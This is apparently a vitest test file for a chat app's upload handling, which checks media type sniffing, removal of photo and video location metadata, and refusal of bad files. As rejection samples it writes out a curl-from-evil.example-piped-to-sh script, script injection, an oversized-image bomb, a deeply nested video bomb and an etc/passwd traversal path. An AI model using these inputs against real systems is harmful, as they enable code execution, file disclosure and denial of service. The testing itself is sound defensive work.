// CHAT-5: chat uploads are judged by their bytes, refused with the spec's codes without storing anything,
// kept without picture or video metadata, and served by unguessable names as the type their bytes proved.
import { execFileSync, spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import jpeg from 'jpeg-js';
import { PNG } from 'pngjs';
import { afterAll, describe, expect, it } from 'vitest';
import { chat } from '@krapao/contract';
import { cleanImage, cleanVideo, sniff } from '../src/modules/chat/media.ts';
import { allMessages, newGuest, OPS_TOKEN, send, upload } from './chat-helpers.ts';
import { expectError, registerAndLogin, useTestApp } from './helpers.ts';

const chatDir = mkdtempSync(join(tmpdir(), 'krapao-chat-'));
afterAll(() => rmSync(chatDir, { recursive: true, force: true }));
const t = useTestApp({ OPS_TOKEN, CHAT_STORAGE_DIR: chatDir });

function chunk(type: string, data: Buffer) {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, data, Buffer.alloc(4)]); // the CRC is not what is tested
}

function png(width = 4, height = 3) {
  const image = new PNG({ width, height });
  image.data.fill(200);
  return PNG.sync.write(image);
}

/** A PNG with text, XMP and EXIF chunks after its header: what a phone or an editor writes. */
function pngWithMetadata() {
  const plain = png();
  return Buffer.concat([
    plain.subarray(0, 33),
    chunk('tEXt', Buffer.from('Author\0Somchai GPS 13.7563,100.5018')),
    chunk('iTXt', Buffer.from('XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>secret</x:xmpmeta>')),
    chunk('eXIf', Buffer.from('MM\0*GPS secret')),
    plain.subarray(33),
    chunk('zTXt', Buffer.from('Comment\0\0xx')),
  ]);
}

function jpegWithExif() {
  const raw = { width: 8, height: 8, data: Buffer.alloc(8 * 8 * 4, 128) };
  const plain = jpeg.encode(raw, 80).data;
  const exifData = Buffer.from('Exif\0\0GPS 13.7563 100.5018 secret');
  const app1 = Buffer.concat([Buffer.from([0xff, 0xe1]), Buffer.alloc(2), exifData]);
  app1.writeUInt16BE(exifData.length + 2, 2);
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x08]), Buffer.from('secret')]);
  return Buffer.concat([plain.subarray(0, 2), app1, comment, plain.subarray(2)]);
}

function gifWithComment() {
  return Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    Buffer.from([1, 0, 1, 0, 0x80, 0, 0]), // 1x1, a global table of 2 colours
    Buffer.from([0, 0, 0, 255, 255, 255]),
    Buffer.from([0x21, 0xfe, 6]),
    Buffer.from('secret'),
    Buffer.from([0]), // comment
    Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0]), // image descriptor
    Buffer.from([2, 2, 0x4c, 0x01, 0]), // LZW data
    Buffer.from([0x3b]),
  ]);
}

function mp4(bytes = 64, brand = 'isom') {
  const b = Buffer.alloc(bytes);
  b.writeUInt32BE(24, 0);
  b.write('ftyp', 4, 'latin1');
  b.write(brand, 8, 'latin1');
  b.writeUInt32BE(bytes - 24, 24);
  b.write('mdat', 28, 'latin1');
  return b;
}

/** An ISO BMFF box: 32-bit size, type, payload. */
function box(type: string, ...payload: Buffer[]) {
  const body = Buffer.concat(payload);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
}
/** A box with a version and flags (all zero) before its payload. */
const fullBox = (type: string, ...payload: Buffer[]) => box(type, Buffer.alloc(4), ...payload);
/** A QuickTime user data text: 16-bit length, 16-bit language, the text. */
function qtText(text: string) {
  const head = Buffer.alloc(4);
  head.writeUInt16BE(Buffer.byteLength(text), 0);
  return Buffer.concat([head, Buffer.from(text)]);
}

const LOCATION = '+13.7563+100.5018';
const XMP_UUID = Buffer.from('BE7ACFCB97A942E89C71999491E3AFAC', 'hex');

/**
 * A small MP4 laid out as a phone writes it: ftyp, moov (mvhd; a track with tkhd, a sample table whose
 * stco points into mdat, and its own udta; the movie's udta with '©xyz' and Apple's meta with the
 * location key), a top-level XMP uuid, and mdat. `mdatFirst` puts mdat before moov, as an iPhone does.
 */
function phoneVideo(brand = 'isom', mdatFirst = false) {
  const ftyp = box('ftyp', Buffer.from(`${brand}\0\0\x02\0isomiso2mp41`, 'latin1'));
  const mvhd = fullBox('mvhd', Buffer.alloc(96, 0x11));
  const tkhd = fullBox('tkhd', Buffer.alloc(80, 0x22));
  const mdat = box('mdat', Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 7) % 251)));
  const stco = (offset: number) => {
    const entries = Buffer.alloc(8);
    entries.writeUInt32BE(1, 0);
    entries.writeUInt32BE(offset, 4);
    return fullBox('stco', entries);
  };
  const meta = fullBox(
    'meta',
    fullBox('hdlr', Buffer.from('\0\0\0\0mdta\0\0\0\0\0\0\0\0\0\0\0\0\0', 'latin1')),
    fullBox(
      'keys',
      Buffer.from([0, 0, 0, 1]),
      box('mdta', Buffer.from('com.apple.quicktime.location.ISO6709')),
    ),
    box(
      'ilst',
      box(
        '\x00\x00\x00\x01',
        box('data', Buffer.from([0, 0, 0, 1, 0, 0, 0, 0]), Buffer.from(`${LOCATION}+012.345/`)),
      ),
    ),
  );
  const xmp = box(
    'uuid',
    XMP_UUID,
    Buffer.from(`<x:xmpmeta><exif:GPSLatitude>13,45.378N</exif:GPSLatitude></x:xmpmeta>`),
  );
  const moovAt = (offset: number) =>
    box(
      'moov',
      mvhd,
      box(
        'trak',
        tkhd,
        box('mdia', box('minf', box('stbl', stco(offset)))),
        box('udta', box('name', Buffer.from("Somchai's phone"))),
      ),
      box('udta', box('\xa9xyz', qtText(`${LOCATION}/`))),
      meta,
    );
  const moovLength = moovAt(0).length;
  const parts = mdatFirst
    ? [ftyp, box('wide'), mdat, moovAt(ftyp.length + 8 + 8), xmp]
    : [ftyp, moovAt(ftyp.length + moovLength + xmp.length + 8), xmp, mdat];
  return Buffer.concat(parts);
}

/** The top-level boxes of an MP4 (32-bit sizes only, as phoneVideo writes them). */
function topBoxes(bytes: Buffer) {
  const boxes: Array<{ type: string; start: number; end: number }> = [];
  for (let at = 0; at < bytes.length;) {
    const end = at + bytes.readUInt32BE(at);
    boxes.push({ type: bytes.toString('latin1', at + 4, at + 8), start: at, end });
    at = end;
  }
  return boxes;
}
const boxOf = (bytes: Buffer, type: string) => {
  const at = bytes.indexOf(Buffer.from(type, 'latin1')) - 4;
  return bytes.subarray(at, at + bytes.readUInt32BE(at));
};

const hasFfmpeg = ['ffmpeg', 'ffprobe'].every((tool) => spawnSync(tool, ['-version']).status === 0);

const storedFiles = () => {
  try {
    return readdirSync(join(chatDir, 'chat'));
  } catch {
    return [];
  }
};
const fileRows = async () =>
  Number((await t.db.query<{ n: string }>('select count(*) as n from chat_files'))[0]!.n);

describe('chat uploads', () => {
  it('[CHAT-5] a PNG, a JPEG and a GIF are kept without their metadata and served as their type', async () => {
    const m = await registerAndLogin(t.app);
    for (const [name, bytes, type] of [
      ['photo.PNG', pngWithMetadata(), 'image/png'],
      ['photo.jpg', jpegWithExif(), 'image/jpeg'],
      ['funny.gif', gifWithComment(), 'image/gif'],
    ] as const) {
      const res = await upload(t.app, m, 'image', name, bytes);
      expect(res.status).toBe(200);
      expect(res.body.fileType).toBe('image');
      const path = res.body.filePath as string;
      expect(path).toMatch(/^\/api\/chat\/files\/[0-9a-f]{32}\.(png|jpg|gif)$/);
      const served = await t.app.inject({ method: 'GET', url: path });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe(type);
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      const kept = served.rawPayload;
      expect(kept.includes(Buffer.from('secret'))).toBe(false);
      expect(kept.includes(Buffer.from('Somchai'))).toBe(false);
      expect(sniff(kept)?.contentType).toBe(type);
    }
    // What is kept still decodes to the same picture.
    const res = await upload(t.app, m, 'image', 'again.png', pngWithMetadata());
    const served = await t.app.inject({ method: 'GET', url: res.body.filePath as string });
    const decoded = PNG.sync.read(served.rawPayload);
    expect([decoded.width, decoded.height]).toEqual([4, 3]);
    expect(jpeg.decode(cleanImage(jpegWithExif(), 'image/jpeg')!).width).toBe(8);

    // The upload goes into a media message of the same conversation.
    const sent = await send(t.app, m, {
      message_type: 'media',
      payload: { fileType: 'image', filePath: res.body.filePath, message: ' look ' },
    });
    expect(sent.status).toBe(200);
    expect(sent.body.message).toEqual({
      message_type: 'media',
      payload: { fileType: 'image', filePath: res.body.filePath, message: 'look' },
    });
  });

  it('[CHAT-5] a script named .png, a huge declared PNG, an oversized video, a name without an extension: refused, nothing stored', async () => {
    const g = await newGuest(t.app);
    const rows = await fileRows();
    const files = storedFiles().length;
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n<script>alert(1)</script>');
    expectError(await upload(t.app, g, 'image', 'cute.png', script), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(
      await upload(t.app, g, 'image', 'page.png', Buffer.from('<html><script>alert(1)</script></html>')),
      400,
      'CHAT_FILE_NOT_SUPPORTED',
    );
    // A valid PNG header declaring 100,000 x 100,000 pixels (40 GB to decode).
    const bomb = png();
    bomb.writeUInt32BE(100_000, 16);
    bomb.writeUInt32BE(100_000, 20);
    expectError(await upload(t.app, g, 'image', 'bomb.png', bomb), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(await upload(t.app, g, 'image', 'photo', png()), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(await upload(t.app, g, 'video', 'clip', mp4()), 400, 'CHAT_FILE_NOT_SUPPORTED');
    // A picture sent as a video, and a video as a picture.
    expectError(await upload(t.app, g, 'video', 'clip.mp4', png()), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(await upload(t.app, g, 'image', 'clip.png', mp4()), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(
      await upload(t.app, g, 'video', 'long.mp4', mp4(chat.CHAT_VIDEO_MAX_BYTES + 1)),
      413,
      'CHAT_FILE_TOO_LARGE',
    );
    expectError(
      await upload(
        t.app,
        g,
        'image',
        'big.png',
        Buffer.concat([png(), Buffer.alloc(chat.CHAT_IMAGE_MAX_BYTES)]),
      ),
      413,
      'CHAT_FILE_TOO_LARGE',
    );
    expect(await fileRows()).toBe(rows);
    expect(storedFiles()).toHaveLength(files);
  });

  it('[CHAT-5] a video is kept as its bytes say (mp4 or QuickTime) and served in ranges', async () => {
    const g = await newGuest(t.app);
    const mov = await upload(t.app, g, 'video', 'IMG_0001.MOV', mp4(2000, 'qt  '));
    expect(mov.status).toBe(200);
    expect(mov.body.filePath).toMatch(/\.mov$/);
    const mp = await upload(t.app, g, 'video', 'clip.mp4', mp4(2000));
    const served = await t.app.inject({
      method: 'GET',
      url: mp.body.filePath as string,
      headers: { range: 'bytes=0-1' },
    });
    expect(served.statusCode).toBe(206);
    expect(served.headers['content-type']).toBe('video/mp4');
    expect(served.headers['content-range']).toBe('bytes 0-1/2000');
    expect(served.rawPayload).toHaveLength(2);
    const movServed = await t.app.inject({ method: 'GET', url: mov.body.filePath as string });
    expect(movServed.headers['content-type']).toBe('video/quicktime');
  });

  it('[CHAT-5] a phone video is kept without its location and metadata, its media data untouched', async () => {
    const m = await registerAndLogin(t.app);
    for (const [name, sent, type] of [
      ['clip.mp4', phoneVideo(), 'video/mp4'],
      ['IMG_0002.MOV', phoneVideo('qt  ', true), 'video/quicktime'],
    ] as const) {
      expect(sent.includes(Buffer.from(LOCATION))).toBe(true);
      const res = await upload(t.app, m, 'video', name, sent);
      expect(res.status).toBe(200);
      const served = await t.app.inject({ method: 'GET', url: res.body.filePath as string });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe(type);
      const kept = served.rawPayload;
      // No location (QuickTime '©xyz', Apple's location key), no XMP, no track name.
      for (const secret of [LOCATION, 'com.apple.quicktime.location', 'xmpmeta', 'GPS', 'Somchai'])
        expect(kept.includes(Buffer.from(secret))).toBe(false);
      // Same size and layout: ftyp, mdat (where stco points) and the movie and track headers are as sent.
      expect(kept).toHaveLength(sent.length);
      const boxes = topBoxes(sent);
      expect(topBoxes(kept)).toEqual(boxes.map((b) => (b.type === 'uuid' ? { ...b, type: 'free' } : b)));
      for (const b of boxes.filter((x) => x.type === 'ftyp' || x.type === 'mdat'))
        expect(kept.subarray(b.start, b.end).equals(sent.subarray(b.start, b.end))).toBe(true);
      for (const header of ['mvhd', 'tkhd', 'stco']) expect(boxOf(kept, header)).toEqual(boxOf(sent, header));
    }
  });

  it('[CHAT-5] a video whose boxes run past their end is refused, nothing stored', async () => {
    const g = await newGuest(t.app);
    const rows = await fileRows();
    const files = storedFiles().length;
    // Cut off: mdat claims more bytes than the file has.
    const cut = phoneVideo().subarray(0, phoneVideo().length - 10);
    expectError(await upload(t.app, g, 'video', 'cut.mp4', cut), 400, 'CHAT_FILE_NOT_SUPPORTED');
    // A track claiming more than its movie holds.
    const overlong = phoneVideo();
    const trak = overlong.indexOf(Buffer.from('trak')) - 4;
    overlong.writeUInt32BE(overlong.readUInt32BE(trak) + 4, trak);
    expectError(await upload(t.app, g, 'video', 'long.mov', overlong), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expect(await fileRows()).toBe(rows);
    expect(storedFiles()).toHaveLength(files);
  });

  it.skipIf(!hasFfmpeg)(
    '[CHAT-5] a video ffmpeg tagged with a location plays without it (ffprobe)',
    async () => {
      const dir = mkdtempSync(join(tmpdir(), 'krapao-video-'));
      try {
        const m = await registerAndLogin(t.app);
        const probe = (file: string) =>
          JSON.parse(
            execFileSync('ffprobe', [
              ...['-v', 'error', '-count_frames', '-of', 'json'],
              ...['-show_entries', 'format_tags:stream=codec_type,nb_read_frames', file],
            ]).toString(),
          ) as { streams: Array<{ codec_type: string; nb_read_frames: string }>; format: { tags?: object } };
        // mp4 with Apple-style keys (moov/meta) and 3GPP 'loci'; QuickTime with '©xyz'.
        for (const [name, flags] of [
          ['clip.mp4', ['-movflags', '+use_metadata_tags']],
          ['clip.mov', []],
        ] as const) {
          const original = join(dir, name);
          execFileSync('ffmpeg', [
            ...['-v', 'error', '-f', 'lavfi', '-i', 'testsrc=size=64x64:rate=5', '-t', '1'],
            ...['-metadata', `location=${LOCATION}/`, ...flags, original],
          ]);
          expect(JSON.stringify(probe(original).format.tags)).toContain(LOCATION);
          const res = await upload(t.app, m, 'video', name, readFileSync(original));
          expect(res.status).toBe(200);
          const served = await t.app.inject({ method: 'GET', url: res.body.filePath as string });
          const kept = join(dir, `kept-${name}`);
          writeFileSync(kept, served.rawPayload);
          const seen = probe(kept);
          expect(JSON.stringify(seen.format.tags ?? {})).not.toMatch(/location|\+13\.75/i);
          expect(seen.streams).toEqual([{ codec_type: 'video', nb_read_frames: '5' }]);
        }
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    },
  );

  it('[CHAT-5] a file is only sent in its own conversation; unknown names are not found', async () => {
    const owner = await newGuest(t.app);
    const other = await registerAndLogin(t.app);
    const up = await upload(t.app, owner, 'image', 'a.png', png());
    expectError(
      await send(t.app, other, {
        message_type: 'media',
        payload: { fileType: 'image', filePath: up.body.filePath },
      }),
      400,
      'CHAT_FILE_UNKNOWN',
    );
    expectError(
      await send(t.app, owner, {
        message_type: 'media',
        payload: { fileType: 'video', filePath: up.body.filePath },
      }),
      400,
      'CHAT_FILE_UNKNOWN',
    );
    expect(await allMessages(t.app, other)).toEqual([]);
    for (const name of [`${randomUUID().replace(/-/g, '')}.png`, '..%2F..%2Fetc%2Fpasswd', 'x.html'])
      expect((await t.app.inject({ method: 'GET', url: `/api/chat/files/${name}` })).statusCode).toBe(404);
  });
});

describe('cleanVideo', () => {
  it('[CHAT-5] wipes metadata boxes into zeroed free boxes of the same size, never changing what it was given', () => {
    const sent = phoneVideo();
    const copy = Buffer.from(sent);
    const kept = cleanVideo(sent)!;
    expect(sent.equals(copy)).toBe(true);
    expect(kept).toHaveLength(sent.length);
    const udta = sent.indexOf(Buffer.from('udta')) - 4; // the track's
    const size = sent.readUInt32BE(udta);
    expect(kept.toString('latin1', udta + 4, udta + 8)).toBe('free');
    expect(kept.readUInt32BE(udta)).toBe(size);
    expect(kept.subarray(udta + 8, udta + size).equals(Buffer.alloc(size - 8))).toBe(true);
  });

  it('[CHAT-5] reads 64-bit sizes and a last box running to the end of the file', () => {
    const ftyp = box('ftyp', Buffer.from('isom\0\0\0\0isom', 'latin1'));
    const moov = box('moov', box('udta', Buffer.from(LOCATION)));
    const large = Buffer.alloc(16 + 100, 5); // mdat with size 1 and a 64-bit size
    large.writeUInt32BE(1, 0);
    large.write('mdat', 4, 'latin1');
    large.writeBigUInt64BE(116n, 8);
    const meta = box('meta', Buffer.from(LOCATION));
    meta.writeUInt32BE(0, 0); // to the end of the file
    const kept = cleanVideo(Buffer.concat([ftyp, large, moov, meta]))!;
    expect(kept).toBeDefined();
    expect(kept.includes(Buffer.from(LOCATION))).toBe(false);
    expect(kept.subarray(ftyp.length, ftyp.length + 116).equals(large)).toBe(true);
    const last = ftyp.length + 116 + moov.length;
    expect([kept.readUInt32BE(last), kept.toString('latin1', last + 4, last + 8)]).toEqual([
      meta.length,
      'free',
    ]);
  });

  it('[CHAT-5] refuses what cannot be walked', () => {
    const ftyp = box('ftyp', Buffer.from('isom\0\0\0\0', 'latin1'));
    const mdat = box('mdat', Buffer.alloc(10));
    expect(cleanVideo(Buffer.concat([mdat, ftyp]))).toBeUndefined(); // ftyp not first
    const small = box('moov', box('free'));
    small.writeUInt32BE(4, 8); // a box smaller than its header
    expect(cleanVideo(Buffer.concat([ftyp, small]))).toBeUndefined();
    const zero = box('moov', box('udta'));
    zero.writeUInt32BE(0, 8); // "to the end" inside a container
    expect(cleanVideo(Buffer.concat([ftyp, zero]))).toBeUndefined();
    expect(cleanVideo(Buffer.concat([ftyp, mdat, Buffer.alloc(3)]))).toBeUndefined(); // a cut-off header
    let deep = box('udta');
    for (let i = 0; i < 16; i++) deep = box('moov', deep);
    expect(cleanVideo(Buffer.concat([ftyp, deep]))).toBeDefined(); // 16 levels
    expect(cleanVideo(Buffer.concat([ftyp, box('moov', deep)]))).toBeUndefined(); // 17
    // 100,000 nested tracks (800 KB): refused at the 17th level, not by running out of stack.
    const bomb = Buffer.alloc(800_000);
    for (let at = 0; at < bomb.length; at += 8) {
      bomb.writeUInt32BE(bomb.length - at, at);
      bomb.write('trak', at + 4, 'latin1');
    }
    expect(cleanVideo(Buffer.concat([ftyp, bomb]))).toBeUndefined();
  });
});
